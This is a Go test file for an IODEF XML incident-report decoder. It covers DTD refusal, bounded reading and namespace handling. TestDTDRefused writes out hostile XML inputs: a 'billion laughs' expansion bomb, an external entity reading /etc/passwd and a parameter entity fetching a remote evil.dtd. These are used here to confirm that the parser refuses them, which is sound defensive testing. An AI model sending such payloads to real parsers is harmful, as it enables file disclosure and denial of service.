// (an exponential "billion laughs", an external entity naming a file, a
// parameter entity, or nothing), so no entity is expanded or fetched.
func TestDTDRefused(t *testing.T) {
	const incident = `<IODEF-Document version="2.00" xmlns="urn:ietf:params:xml:ns:iodef-2.0">
<Incident purpose="reporting"><IncidentID name="csirt.example.com">1</IncidentID>
<Description>&x;</Description>
</Incident></IODEF-Document>`
	for name, dtd := range map[string]string{
		"billion laughs": `<!DOCTYPE IODEF-Document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` +
			`<!ENTITY x "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`,
		"external entity":  `<!DOCTYPE IODEF-Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
		"parameter entity": `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>`,
		"plain":            `<!DOCTYPE IODEF-Document>`,
		"empty directive":  `<! >`,
	} {
		t.Run(name, func(t *testing.T) {
			doc, err := decode("dtd.xml", []byte("<?xml version=\"1.0\"?>\n"+dtd+"\n"+incident), tlpAndTaxonomy)
			var e *iodef.Error
			if !errors.As(err, &e) || e.Line != 2 || e.Column != 1 || e.Path != "IODEF-Document" ||
				!strings.Contains(e.Msg, "DTD") || doc != nil {
				t.Fatalf("got %v, %v", doc, err)
			}
			if !strings.HasPrefix(err.Error(), "dtd.xml:2:1: IODEF-Document: ") {
				t.Errorf("error %q does not start with file:line:col: path", err)
			}
		})
	}
	// Inside the document, the DTD's place and the element path are named.
	_, err := decode("late.xml", []byte("<IODEF-Document xmlns=\"urn:ietf:params:xml:ns:iodef-2.0\"><Incident>\n<!DOCTYPE x>"), tlpAndTaxonomy)
	var e *iodef.Error
	if !errors.As(err, &e) || e.Path != "IODEF-Document/Incident" || e.Line != 2 {
		t.Fatalf("got %v", err)
	}
}

// TestDecodeReadsBoundedly: Decode stops reading past MaxDocumentBytes
// (a stream without end is refused, not read to the end), and an error of
// the reader is returned as it is.
func TestDecodeReadsBoundedly(t *testing.T) {
	endless := &countingReader{}
	_, err := iodef.Decode(endless, "stdin", tlpAndTaxonomy)
	var e *iodef.Error
	if !errors.As(err, &e) || !strings.HasPrefix(err.Error(), "stdin:1:1: IODEF-Document: the document is more than 4 MiB") {
		t.Fatalf("got %v", err)
	}
	if endless.n > iodef.MaxDocumentBytes+1 {
		t.Errorf("read %d bytes; the limit is %d", endless.n, iodef.MaxDocumentBytes)
	}

	broken := errors.New("connection reset")
	_, err = iodef.Decode(io.MultiReader(strings.NewReader("<IODEF-Document"), errReader{broken}), "stdin", tlpAndTaxonomy)
	if !errors.Is(err, broken) || errors.As(err, &e) {
		t.Errorf("got %v, want the reader's error", err)
	}
}

// countingReader is an endless stream of spaces that counts what was read.
type countingReader struct{ n int }

func (r *countingReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	r.n += len(p)
	return len(p), nil
}

type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

// TestNamespaces: prefixes resolve as XML Namespaces says (the reader
// resolves them itself): a document written with a prefix maps as the
// same document with a default namespace, a declaration holds only within
// its element, an end tag must repeat its start tag's prefix, and the
// text of an element is the same whether written with references, in
// CDATA sections or plain.
func TestNamespaces(t *testing.T) {
	const plain = `<IODEF-Document version="2.00" xmlns="urn:ietf:params:xml:ns:iodef-2.0">
<Incident purpose="reporting"><IncidentID name="csirt.example.com">1</IncidentID>
<GenerationTime>2026-03-01T00:00:00Z</GenerationTime><Description>a &amp; b</Description>
<Contact role="creator" type="organization"/></Incident></IODEF-Document>`
	const prefixed = `<i:IODEF-Document version="2.00" xmlns:i="urn:ietf:params:xml:ns:iodef-2.0">
<i:Incident purpose="reporting"><i:IncidentID name="csirt.example.com">1</i:IncidentID>
<i:GenerationTime>2026-03-01T00:00:00Z</i:GenerationTime><i:Description>a <![CDATA[&]]> b</i:Description>
<i:Contact role="creator" type="organization"/></i:Incident></i:IODEF-Document>`
	want, err := decode("plain.xml", []byte(plain), tlpAndTaxonomy)
	if err != nil || want.Incidents[0].Err != nil {
		t.Fatal(err, want)
	}
	got, err := decode("prefixed.xml", []byte(prefixed), tlpAndTaxonomy)
	if err != nil || got.Incidents[0].Err != nil {
		t.Fatal(err, got)
	}
	if !proto.Equal(got.Incidents[0].Incident, want.Incidents[0].Incident) {
		t.Errorf("prefixed:\n%v\nplain:\n%v", got.Incidents[0].Incident, want.Incidents[0].Incident)
	}
	if d := got.Incidents[0].Incident.GetDescriptions(); len(d) != 1 || d[0].GetText() != "a & b" {
		t.Errorf("descriptions %v", d)
	}

	// An element of another namespace, declared on it, is not IODEF; its
	// declaration ends with it, so the next Description is IODEF's.
	scoped := strings.Replace(plain, "<Description>", `<x:Note xmlns:x="urn:example" xmlns="urn:example"><Description>not IODEF</Description></x:Note><Description>`, 1)
	doc, err := decode("scoped.xml", []byte(scoped), tlpAndTaxonomy)
	if err != nil || doc.Incidents[0].Err != nil {
		t.Fatal(err, doc)
	}
	if d := doc.Incidents[0].Incident.GetDescriptions(); len(d) != 1 || d[0].GetText() != "a & b" {
		t.Errorf("descriptions %v", d)
	}
	if !strings.Contains(doc.Warning(), "{urn:example}:Note") {
		t.Errorf("warning %q does not name the foreign element", doc.Warning())
	}

	for _, tc := range []struct{ data, want string }{
		{strings.Replace(prefixed, "</i:Description>", "</Description>", 1),
			"bad.xml:3:90: IODEF-Document/Incident/Description: XML syntax error: element <Description> in space i closed by </Description> in space \"\""},
		{strings.Replace(plain, "</Description>", "</Descr>", 1),
			"bad.xml:3:76: IODEF-Document/Incident/Description: XML syntax error: element <Description> closed by </Descr>"},
		{plain + "</Incident>", "bad.xml:4:74: IODEF-Document: XML syntax error: unexpected end element </Incident>"},
	} {
		_, err := decode("bad.xml", []byte(tc.data), tlpAndTaxonomy)
		var e *iodef.Error
		if !errors.As(err, &e) || err.Error() != tc.want {
			t.Errorf("got %v\nwant %s", err, tc.want)
		}
	}
}
